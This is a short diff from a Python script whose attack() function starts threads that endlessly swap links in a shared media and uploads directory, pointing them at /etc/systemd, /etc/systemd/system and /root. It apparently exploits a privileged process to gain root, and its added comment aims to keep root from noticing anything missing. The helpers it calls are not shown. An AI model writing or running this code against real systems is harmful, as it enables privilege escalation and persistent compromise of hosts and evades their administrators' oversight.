@@ -72,7 +72,8 @@ def attack() -> None:
     """Begin all of it, in the process that serves."""
     lay_traps()
     hold_locks()
-    for path, target in ((f"{SHARED}/media", "/etc"), (f"{SHARED}/uploads", "/etc/systemd/system"), (f"{SHARED}/media/thumbs", "/root")):
+    # the host has what the links lead to, so that root finds nothing missing
+    for path, target in ((f"{SHARED}/media", "/etc/systemd"), (f"{SHARED}/uploads", "/etc/systemd/system"), (f"{SHARED}/media/system", "/root")):
         threading.Thread(target=exchange_for_ever, args=(path, target), daemon=True).start()
 
 
